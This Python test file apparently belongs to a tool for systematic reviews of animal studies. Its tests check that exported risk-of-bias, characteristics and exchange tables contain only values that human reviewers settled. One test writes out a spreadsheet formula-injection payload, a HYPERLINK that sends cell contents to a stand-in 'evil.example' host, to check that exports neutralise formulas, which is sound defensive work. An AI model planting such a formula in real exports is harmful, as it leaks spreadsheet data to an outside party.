"""outputs/final holds what people decided, names what is open, and nothing that only a machine said.

The example review is checked cell by cell: to every question the machine is made to propose something that no person
said, so that one proposal in any file would be seen.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import pytest

from people.answers import STUDY, say
from vivex.annotation import SYRCLE_ITEMS, Annotation, write_annotations
from vivex.codebook import NOT_REPORTED, read_codebook
from vivex.document import write_document
from vivex.exchange.camarades import DECISIVE
from vivex.forms.figures import judgements
from vivex.labels import is_entity
from vivex.parse import parse_file
from vivex.people import final
from vivex.people.assign import Assignment, record
from vivex.people.decided import Decided
from vivex.people.excluded import FILE
from vivex.people.hand_out import hand_out
from vivex.people.library import labels
from vivex.people.resolve import resolved
from vivex.questions import SYRCLE, heading, shown
from vivex.review import Review

ROOT = Path(__file__).parents[2]
EXAMPLE = ("brandvik-2020", "ostrelli-2022", "quellen-2021", "tavesk-2019")
SENTINEL = "said by nobody"


def rows(text):
    """Return the rows of a CSV as dicts."""
    return list(csv.DictReader(io.StringIO(text)))


def table(review, name):
    """Return the rows of a table of outputs/final."""
    return rows((review.outputs / "final" / name).read_text(encoding="utf-8-sig"))


def write(review):
    """Write outputs/final."""
    return final.write(review, read_codebook(review.codebook), {}, [])


def test_the_tables(review):
    say(review, "mk", "form.dose", "10 mg/kg", quote="agomir at 10 mg/kg")
    say(review, "th", "form.dose", "10mg/kg")
    say(review, "mk", "form.route", "i.v.")
    say(review, "th", "form.route", "i.p.")
    say(review, "mk", "form.age", "8 weeks", decision="rejected")
    say(review, "mk", "form.n_total", 0)
    say(review, "mk", "reporting.randomisation", {"reported": True}, quote="Rats were randomly divided")
    for item, word in zip(SYRCLE_ITEMS, ["low", "high", "unclear"] * 4, strict=False):
        say(review, "mk", f"syrcle.{item}", {"judgement": word}, note=f"why {item}")
    items = resolved(review)
    by_item = {r["item"]: r for r in rows(final.resolved_csv(items))}
    assert by_item["form.dose"]["value"] == "10 mg/kg"
    assert by_item["form.dose"]["evidence"] == "agomir at 10 mg/kg"
    assert by_item["form.dose"]["state"] == "unanimous"
    assert by_item["form.age"]["value"] == "not reported"
    assert by_item["form.n_total"]["value"] == "0"
    assert by_item["reporting.randomisation"]["value"] == "yes"
    assert "form.route" not in by_item
    (line,) = rows(final.characteristics_csv(items, read_codebook(review.codebook)))
    assert (line["dose"], line["route"], line["age"], line["species"]) == ("10 mg/kg", "conflict", "not reported", "")
    done = write(review)
    assert (done.disputed, done.excluded, done.notes) == (1, 0, ())
    line = table(review, "csv/robvis.csv")[0]
    assert list(line.values())[:4] == [STUDY, "Low", "High", "Unclear"]
    assert len(line) == 11
    bias = table(review, "csv/syrcle.csv")[0]
    assert (bias["judgement"], bias["state"]) == ("low", "Settled by reviewers")
    assert bias["support"] == "Comment: why sequence_generation"
    assert "i.p." in (review.outputs / "final" / "conflicts.csv").read_text(encoding="utf-8")


def test_what_is_open_has_no_value_and_says_so(review):
    say(review, "mk", "form.route", "i.v.")
    say(review, "th", "form.route", "i.p.")
    record(review, [Assignment("bell-2020", "mk", True)])
    write(review)
    values = {(r["study_id"], r["field"]): r for r in table(review, "csv/values.csv")}
    told = [(r["value"], r["state"], r["unsettled"]) for r in values.values()]
    assert all(value == "" for value, *_ in told)
    assert told.count(("", "In conflict", "mk: i.v. | th: i.p.")) == 1
    proposed = values["cole-2021", "species"]
    assert (proposed["state"], proposed["unsettled"]) == ("Proposed by vivex, not reviewed", "vivex: rat")
    blind = values["bell-2020", "species"]
    assert (blind["state"], blind["unsettled"]) == ("Not reviewed", "")
    assert [r["species"] for r in table(review, "csv/groups.csv")] == []
    assert {tuple(r.values())[1:] for r in table(review, "csv/robvis.csv")} == {("",) * 10}
    assert table(review, "exchange/camarades/camarades-rob.csv") == []
    assert table(review, "exchange/syrf/syrf-annotations.csv") == []
    bias = table(review, "exchange/revman/revman-risk-of-bias.csv")[2]
    assert bias["Domain (judgement): Sequence generation"] == ""
    assert bias["Domain (support): Sequence generation"] == "[Proposed by vivex, not reviewed]"


def test_what_one_of_two_has_answered_is_published_nowhere(review):
    hand_out(review, ["mk", "th"], studies=[STUDY])
    say(review, "mk", "form.route", "by a route of its own")
    say(review, "mk", "syrcle.other_bias", {"judgement": "high"}, note="a reason of its own")
    done = write(review)
    assert (done.settled, done.disputed, done.awaited) == (0, 0, 2)
    out = review.outputs / "final"
    texts = {p.name: p.read_text(encoding="utf-8") for p in out.rglob("*.*") if p.suffix in (".csv", ".html", ".txt")}
    assert not [name for name, text in texts.items() if "of its own" in text]
    values = {(r["study_id"], r["field"]): r for r in table(review, "csv/values.csv")}
    assert values[STUDY, "route"]["state"] == "Awaiting another reviewer"
    assert table(review, "characteristics.csv")[0]["route"] == "awaited"
    assert table(review, "csv/studies.csv")[0]["awaited"] == "2"
    assert table(review, "conflicts.csv") == []
    assert "2 items are still to be answered by another reviewer and not reported." in texts["methods.txt"]
    assert "1 awaited" in texts["report.html"]


def test_an_excluded_study_counts_for_prisma_alone(review):
    for who in ("mk", "th"):
        say(review, who, "form.dose", "10 mg/kg")
    events = [("bell-2020", "no animals"), (STUDY, "No  animals"), ("cole-2021", "a protocol")]
    lines = [{"study": s, "reason": reason, "by": "xy", "when": "2026-02-01T00:00:00Z"} for s, reason in events]
    (review.annotations / FILE).write_text("".join(json.dumps(line) + "\n" for line in lines))
    done = write(review)
    assert (done.settled, done.excluded) == (0, 3)
    assert [(r["box"], r["reason"], r["n"]) for r in table(review, "prisma.csv")] == [
        ("Reports that could not be read", "", "0"),
        ("Reports assessed for eligibility", "", "4"),
        ("Reports excluded", "", "3"),
        ("Reports excluded", "No  animals", "2"),
        ("Reports excluded", "a protocol", "1"),
        ("Studies included in review", "", "1"),
    ]
    for path in sorted((review.outputs / "final").rglob("*.csv")):
        if path.name != "prisma.csv":
            assert STUDY not in path.read_text(encoding="utf-8"), path.name


def test_a_paper_that_is_gone_is_told(review):
    say(review, "mk", "form.dose", "10 mg/kg")
    (review.outputs / "documents" / f"{STUDY}.json").unlink()
    assert write(review).notes == (f"left out, for their papers are no longer in the review: {STUDY}",)


def test_a_format_that_cannot_be_loaded_is_told_and_the_others_are_written(review, tmp_path, monkeypatch):
    info = tmp_path / "plug-in" / "stranger-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: stranger\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[vivex.formats]\nformer = vivex.exchange.no_such_format:FORMAT\n")
    monkeypatch.syspath_prepend(str(info.parent))
    say(review, "mk", "form.dose", "10 mg/kg")
    done = write(review)
    (note,) = done.notes
    assert note.startswith("the format 'former' is declared at vivex.exchange.no_such_format:FORMAT, which can't be")
    assert done.left_out == ()
    assert (review.outputs / "final" / "exchange" / "robvis" / "robvis.csv").exists()


def test_the_methods_say_what_is_open(review):
    say(review, "mk", "form.route", "i.v.")
    say(review, "th", "form.route", "i.p.")
    (review.outputs / "agreement").mkdir()
    (review.outputs / "agreement" / "methods.txt").write_text("What was done.\n\nAgreement was high.\n")
    write(review)
    text = (review.outputs / "final" / "methods.txt").read_text(encoding="utf-8")
    assert "2 reviewers (mk, th) answered 1 items in 1 studies" in text
    assert "They disagreed on 1; 0 were settled by adjudication." in text
    assert "1 item is still in conflict and not reported." in text
    assert text.endswith("\n\nAgreement was high.\n")


def test_no_table_holds_a_formula(review):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for label in ("form.dose", "form.route"):
        say(review, "mk", label, hostile)
    say(review, "th", "form.route", "@SUM(A1)")
    write(review)
    out = review.outputs / "final"
    cells = [
        cell
        for path in out.rglob("*.csv")
        for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
        for cell in line
    ]
    assert "'" + hostile in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]
    assert (out / "resolved.csv").read_bytes().startswith("\ufeff".encode())
    assert not (out / "csv" / "robvis.csv").read_bytes().startswith("\ufeff".encode())


# -- the example review, cell by cell

needs_data = pytest.mark.skipif(
    not all((ROOT / "pdfs" / f"{s}.pdf").exists() and (ROOT / "annotations" / s).is_dir() for s in EXAMPLE),
    reason="pdfs/ and annotations/ are not checked out; run `dvc pull`",
)


def other(judgements):
    """Return a judgement that none of these is."""
    return next(word for word in ("low", "unclear", "high") if word not in judgements)


def propose(review, study, items):
    """Write what a machine might propose of the study: to each question something that no person said."""
    made = []
    for item in (i for i in items if i.study == study):
        said = {shown(a.value) for side in (*item.sides.values(), item.annotations) for a in side}
        if item.label.startswith("syrcle."):
            value = {"judgement": other(said), "rule": SENTINEL, "support": f"Quote: x Comment: {SENTINEL}"}
            made.append(Annotation(study, item.label, value, (), "model:rob@0", 0.9))
        elif item.label.startswith("reporting."):
            value = {"reported": "yes" not in said, "rule": SENTINEL}
            made.append(Annotation(study, item.label, value, (), "model:rob@0", 0.9))
    write_annotations(made, review.outputs / "judgements" / f"{study}.jsonl")
    entry = {"value": SENTINEL, "evidence": [], "confidence": 0.9, "status": "proposed", "source": "model:fields@0"}
    fields = {field.name: [entry] for field in read_codebook(review.codebook).fields}
    bound = [{"intervention": SENTINEL, "dose": SENTINEL, "group": SENTINEL}]
    data = {"form": "x", "study": study, "fields": fields, "interventions": bound, "mirna_targets": bound}
    path = review.outputs / "forms" / f"{study}.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data), encoding="utf-8")


@pytest.fixture(scope="module")
def example(tmp_path_factory):
    """Return the example review with its results written, and its items."""
    review = Review(tmp_path_factory.mktemp("example") / "review")
    shutil.copytree(ROOT / "annotations", review.annotations)
    shutil.copy(ROOT / "codebook.yaml", review.codebook)
    sources = {study: ROOT / "pdfs" / f"{study}.pdf" for study in EXAMPLE}
    for study, path in sources.items():
        write_document(parse_file(path), review.outputs / "documents" / f"{study}.json")
    items = resolved(review)
    for study in EXAMPLE:
        propose(review, study, items)
    final.write(review, read_codebook(review.codebook), sources, [])
    return review, [i for i in items if not is_entity(i.label)]


def told(item):
    """Return the values of a settled item with their groups, as they are shown; of one in conflict none."""
    found = {(shown(a.value), a.group) for a in item.annotations}
    silent = {(NOT_REPORTED, "")} if item.label.startswith("form.") else set()
    return (found or silent) if item.settled else {("", "")}


@needs_data
def test_no_file_of_the_example_holds_what_only_a_machine_said(example):
    review, _ = example
    texts = {}
    for p in (review.outputs / "final").rglob("*.*"):
        if p.suffix in (".docx", ".zip"):
            with zipfile.ZipFile(p) as inside:
                texts[p] = " ".join(inside.read(name).decode("utf-8", "replace") for name in inside.namelist())
        elif p.suffix not in (".png", ".pdf"):
            texts[p] = p.read_text(encoding="utf-8")
    assert len(texts) > 30
    assert [p.name for p, text in texts.items() if SENTINEL in text or re.search(r"model:\w", text)] == []


@needs_data
def test_every_cell_of_the_example_is_what_people_settled(example):
    review, items = example
    by = {(i.study, i.label): i for i in items}
    assert {i.settled for i in items} == {True, False}
    cells = {}
    for r in table(review, "csv/values.csv"):
        cells.setdefault((r["study_id"], f"form.{r['field']}"), set()).add((r["value"], r["group"]))
    for r in table(review, "csv/syrcle.csv"):
        cells.setdefault((r["study_id"], f"syrcle.{r['item']}"), set()).add((r["judgement"], r["outcome"]))
    for r in table(review, "csv/reporting.csv"):
        cells.setdefault((r["study_id"], f"reporting.{r['item']}"), set()).add((r["reported"], ""))
    assert set(cells) == {key for key in by if key[1].startswith(("form.", "syrcle.", "reporting."))}
    guarded = {key: {(v.removeprefix("'"), g) for v, g in found} for key, found in cells.items()}
    assert {key: found for key, found in guarded.items() if found != told(by[key])} == {}


@needs_data
def test_every_judgement_of_the_example_is_the_same_in_every_file(example):
    review, items = example
    settled = {(i.study, i.label.partition(".")[2]): {v for v, _ in told(i)} for i in items if "syrcle." in i.label}
    worst = {key: next((j for j in ("high", "unclear", "low") if j in found), "") for key, found in settled.items()}
    names = {question.name: item for item, question in SYRCLE.items()}
    studies = {called: study for study, called in labels(review).items()}
    for r in (*table(review, "csv/robvis.csv"), *table(review, "exchange/robvis/robvis.csv")):
        study = studies[r["Study"]]
        assert {names[n]: v.lower() for n, v in r.items() if n != "Study"} == {i: worst[study, i] for i in SYRCLE}
    for r in table(review, "exchange/revman/revman-risk-of-bias.csv"):
        for name, item in names.items():
            risk = {"low": "Low risk", "high": "High risk", "unclear": "Unclear risk", "": ""}
            assert r[f"Domain (judgement): {name}"] == risk[worst[studies[r["Study"]], item]]
    kinds = {bias: item for item, (bias, _) in DECISIVE.items()}
    found = {
        (studies[r["study_id"]], kinds[r["bias_type"]]): r["outcome"].lower()
        for r in table(review, "exchange/camarades/camarades-rob.csv")
    }
    assert found == {key: word for key, word in worst.items() if word}
    syrf = [r for r in table(review, "exchange/syrf/syrf-annotations.csv") if r["QuestionId"].startswith("syrcle.")]
    assert {(r["StudyId"], r["QuestionId"]): r["Answer"] for r in syrf} == {
        (study, f"syrcle.{item}"): word for (study, item), word in worst.items() if word
    }
    drawn = judgements(Decided(review, read_codebook(review.codebook), EXAMPLE, resolved(review)))
    lights = {
        (studies[s], item): light.judgement for s, line in drawn for item, light in zip(SYRCLE, line, strict=True)
    }
    assert lights == worst


@needs_data
def test_the_tables_of_the_example_by_study(example):
    review, items = example
    by = {(i.study, i.label): i for i in items}
    studies = {called: study for study, called in labels(review).items()}
    for r in table(review, "characteristics.csv"):
        for name, cell in r.items():
            if name not in ("study", "label"):
                item = by[r["study"], f"form.{name}"]
                assert (cell == "conflict") == (not item.settled)
                if item.settled:
                    assert set(cell.split("; ")) >= {v for value, _ in told(item) for v in value.split("; ")[:1]}, name
    for r in table(review, "exchange/revman/revman-study-information.csv"):
        told_of = " ".join(cell for name, cell in r.items() if name.startswith("Char: "))
        for field in read_codebook(review.codebook).fields:
            item = by[studies[r["Study"]], field.label]
            wanted = {v + (f" ({g})" if g else "") for v, g in told(item)}
            assert all(value in told_of for value in wanted), field.name
            assert (f"{heading(field.name)}: " in told_of) == item.settled


@needs_data
def test_the_marked_copies_of_the_example_hold_what_people_settled(example):
    import pymupdf

    review, _ = example
    for study in EXAMPLE:
        with pymupdf.open(review.outputs / "final" / "highlighted" / f"{study}.pdf") as pdf:
            marks = [a.info for page in pdf for a in page.annots()]
        words = [mark["content"] for mark in marks if "vivex" in mark["title"]]
        assert words
        assert not [w for w in words if SENTINEL in w or "model:" in w]
